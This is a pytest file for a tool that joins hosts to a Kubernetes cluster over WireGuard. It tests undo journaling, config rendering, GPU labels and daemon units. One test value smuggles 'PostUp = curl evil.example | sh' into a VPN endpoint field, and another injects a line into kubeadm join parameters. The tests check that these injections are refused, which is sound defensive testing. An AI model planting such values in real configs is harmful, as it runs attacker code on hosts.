"""The node steps' pieces that need no hub: facts for undo, the daemon's unit, refusals.

What the hub sends lands in files that programs execute (wg-quick runs PostUp lines) or
that kubeadm trusts, so a value that is not what it claims to be is refused before anything
is written; the daemon's unit is started only when there is a daemon to start.
"""

from __future__ import annotations

import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path
from typing import Any, ClassVar

import pytest

from tests.join.conftest import FakeHost, install_kube_packages
from tests.support import fakes_node
from worldland_cli.hubclient import JoinParams, VpnPeer
from worldland_cli.join.actions import Action, ActionFailed, EnableUnit, Output
from worldland_cli.join.journal import Journal
from worldland_cli.join.kubeadm import JOIN_CONFIG, KubeadmJoin, render_join_config
from worldland_cli.join.run import join_host, reset_host
from worldland_cli.join.wireguard import new_private_key, public_key_of, render_conf
from worldland_cli.requirements import daemon, kubeadm
from worldland_cli.requirements.base import Finding, JoinSettings, Requirement, Status

SERVER_KEY = public_key_of(new_private_key())
TOKEN = "abcdef.0123456789abcdef"


@dataclass(frozen=True)
class TellsTheWorld(Action):
    """A toy action that 'changes something elsewhere' and remembers what, as hub steps do."""

    kind: ClassVar[str] = "test-tells-the-world"
    undone: str = ""  # a file the undo writes what it was told

    def describe(self) -> str:
        return "tell the world"

    def as_shell(self) -> str:
        return "true"

    def apply(self, host: Any, out: Output) -> None:
        out.remember(ticket="T-42")
        raise KeyboardInterrupt  # killed right after the world heard of it

    def undo(self, host: Any, before: dict[str, Any], purge: bool, out: Output) -> None:
        host.write_atomic(self.undone, f"{before.get('ticket')} {before.get('seen')}\n")

    def prepare(self, host: Any) -> dict[str, Any]:
        return {"seen": "before"}


class Never(Requirement):
    id = "test.never"
    title = "never met"

    def __init__(self, undone: str) -> None:
        self.undone = undone

    def check(self, host: Any) -> Finding:
        return self.fail("not met", None)

    def plan(self, host: Any, finding: Finding, settings: JoinSettings) -> list[Action]:
        return [TellsTheWorld(self.undone)]


def test_facts_an_action_remembers_reach_its_undo_even_after_a_kill(fake: FakeHost) -> None:
    with pytest.raises(KeyboardInterrupt):
        join_host(fake.host, fake.journal, [Never("/undone")], JoinSettings())
    entries = Journal(fake.host).entries()
    assert [(e.state, e.extra) for e in entries] == [("begun", {"ticket": "T-42"})]
    assert reset_host(fake.host, Journal(fake.host)).failures == []
    assert (fake.root / "undone").read_text() == "T-42 before\n"


def peer(**changes: str) -> VpnPeer:
    """The hub's answer to POST /v1/vpn/peers, with ``changes``."""
    values: dict[str, Any] = {
        "public_key": public_key_of(new_private_key()),
        "node_id": "n-1",
        "address": "10.100.1.7",
        "server_public_key": SERVER_KEY,
        "endpoint": "hub.example.org:41820",
        "allowed_ips": "10.100.0.0/16",
        "persistent_keepalive": 25,
    }
    return VpnPeer(**{**values, **changes})


@pytest.mark.parametrize(
    "bad",
    [
        {"endpoint": "1.2.3.4:41820\nPostUp = curl evil.example | sh"},
        {"server_public_key": "not a key"},
        {"address": "10.200.0.9"},  # outside the network the hub names
        {"allowed_ips": "10.100.0.0/33"},
    ],
)
def test_a_vpn_answer_that_is_not_what_it_claims_writes_nothing(bad: dict[str, str]) -> None:
    with pytest.raises(ActionFailed):
        render_conf("n-1", peer(**bad), new_private_key())


def test_wg0_conf_takes_the_prefix_of_the_vpn_network() -> None:
    text = render_conf("n-1", peer(), new_private_key())
    assert "\nAddress = 10.100.1.7/16\n" in text and "\nEndpoint = hub.example.org:41820\n" in text


@pytest.mark.parametrize(
    "params",
    [
        JoinParams("10.100.0.1:6443\ntoken: x", "abcdef.0123456789abcdef", ("sha256:" + "a" * 64,)),
        JoinParams("10.100.0.1:6443", "ABCDEF.0123456789abcdef", ("sha256:" + "a" * 64,)),
        JoinParams("10.100.0.1:6443", "abcdef.0123456789abcdef", ()),
        JoinParams("10.100.0.1:6443", "abcdef.0123456789abcdef", ("md5:abc",)),
    ],
)
def test_join_parameters_that_are_not_what_they_claim_write_nothing(params: JoinParams) -> None:
    with pytest.raises(ActionFailed):
        render_join_config("n-1", "gpu-node-1", (), params)


@pytest.mark.parametrize(
    ("models", "labels"),
    [
        (["Tesla T4"], ("worldland.io/gpu-model=Tesla-T4", "worldland.io/gpu-count=1")),
        (
            ["NVIDIA H100 80GB HBM3"] * 8,
            ("worldland.io/gpu-model=NVIDIA-H100-80GB-HBM3", "worldland.io/gpu-count=8"),
        ),
        (
            ["NVIDIA A100-SXM4-40GB", "Tesla T4", "NVIDIA A100-SXM4-40GB"],
            ("worldland.io/gpu-model=NVIDIA-A100-SXM4-40GB", "worldland.io/gpu-count=3"),
        ),
    ],
)
def test_gpu_labels_are_valid_label_values(models: list[str], labels: tuple[str, ...]) -> None:
    assert kubeadm.gpu_labels(models) == labels
    assert len(kubeadm.label_value("x" * 80 + " (rev 2)")) <= 63


def test_a_kubelet_conf_naming_no_server_is_not_joined_and_needs_a_person(fake: FakeHost) -> None:
    conf = fake.root / "etc/kubernetes/kubelet.conf"
    conf.parent.mkdir(parents=True)
    conf.write_text("apiVersion: v1\nkind: Config\nclusters: []\n")
    finding = kubeadm.Joined(joining=True).check(fake.host)
    assert finding.status is Status.FAIL and "names no API server" in finding.observed
    actions = kubeadm.Joined(joining=True).plan(fake.host, finding, JoinSettings())
    assert [a.as_shell() for a in actions] == [
        "sudo kubeadm reset -f && sudo worldland join --yes --only kube.joined"
    ]


def write_worldland(path: Path, has_daemon: bool) -> str:
    """A stand-in `worldland` whose `daemon --help` answers like a release with or without it."""
    answer = "exit 0" if has_daemon else "echo \"Error: No such command 'daemon'.\" >&2; exit 2"
    path.write_text(f"#!/bin/sh\n{answer}\n")
    path.chmod(0o755)
    return str(path)


@pytest.mark.parametrize("has_daemon", [False, True])
def test_the_daemon_unit_is_started_only_when_there_is_a_daemon(
    fake: FakeHost, tmp_path: Path, has_daemon: bool
) -> None:
    (tmp_path / "bin with space").mkdir()
    worldland = write_worldland(tmp_path / "bin with space" / "worldland", has_daemon)
    settings = JoinSettings(worldland=worldland)
    step = daemon.DaemonHealth(url="https://127.0.0.1:1/health", joining=True)
    finding = step.check(fake.host)
    assert finding.status is Status.FAIL
    assert finding.observed == "worldland-node.service is not installed"
    actions = step.plan(fake.host, finding, settings)
    assert actions[-1] == EnableUnit("worldland-node.service", now=has_daemon)
    result = join_host(fake.host, fake.journal, [step], settings)
    assert result.done == ["daemon.health"] and len(result.warnings) == 1
    if has_daemon:  # started, but nothing answers on :8444 yet: join says where to look
        assert "installed and enabled, but https://127.0.0.1:1/health" in result.warnings[0]
        assert "journalctl -u worldland-node.service" in result.warnings[0]
    else:  # installed and enabled, and join goes on, saying the daemon is not there yet
        assert "the daemon itself is not available yet" in result.warnings[0]
    unit = (fake.root / "etc/systemd/system/worldland-node.service").read_text()
    assert f"\nExecStart='{worldland}' daemon\n" in unit
    assert daemon.exec_program(unit) == worldland


def test_a_kubeadm_join_cut_short_is_cleared_before_the_next_try(fake: FakeHost) -> None:
    """A label kubelet refuses makes kubeadm time out and leave files behind; the next
    kubeadm step runs kubeadm reset -f first, as kubeadm's preflight would refuse them."""
    install_kube_packages(fake, "kubeadm")
    pin = fakes_node.make_cluster(fake.fakes, "10.100.0.1:6443", TOKEN)
    params = JoinParams("10.100.0.1:6443", TOKEN, (pin,))
    config = fake.root / JOIN_CONFIG.lstrip("/")
    config.parent.mkdir(parents=True)
    config.write_text(render_join_config("n-1", "gpu-node-1", ("a/b=Tesla T4",), params))
    failed = fake.host.run(["kubeadm", "join", "--config", JOIN_CONFIG])
    assert failed.returncode == 1
    assert "error execution phase kubelet-start: timed out waiting" in failed.stderr
    assert (fake.root / "etc/kubernetes/pki/ca.crt").exists()
    assert not (fake.root / "etc/kubernetes/bootstrap-kubelet.conf").exists()
    config.write_text(render_join_config("n-1", "gpu-node-1", ("a/b=Tesla-T4",), params))
    KubeadmJoin().apply(fake.host, Output(fake.host, "/join.log"))
    log = (fake.root / "join.log").read_text()
    assert "a join cut short left /etc/kubernetes/pki/ca.crt" in log
    assert log.index("$ kubeadm reset -f") < log.index("$ kubeadm join --config")
    assert (fake.root / "etc/kubernetes/kubelet.conf").exists()
    KubeadmJoin().apply(fake.host, Output(fake.host, "/join.log"))  # joined: nothing to do
    assert (fake.root / "join.log").read_text().endswith("this host has joined already\n")


def test_join_makes_keys_that_the_real_wg_agrees_with() -> None:
    if shutil.which("wg") is None:
        pytest.skip("wg not installed (apt-get install wireguard-tools)")
    for _ in range(20):
        private = new_private_key()
        real = subprocess.run(["wg", "pubkey"], input=private, capture_output=True, text=True)
        assert real.returncode == 0, real.stderr
        assert real.stdout.strip() == public_key_of(private)
    made = subprocess.run(["wg", "genkey"], capture_output=True, text=True, check=True).stdout
    real = subprocess.run(["wg", "pubkey"], input=made, capture_output=True, text=True)
    assert real.stdout.strip() == public_key_of(made.strip())
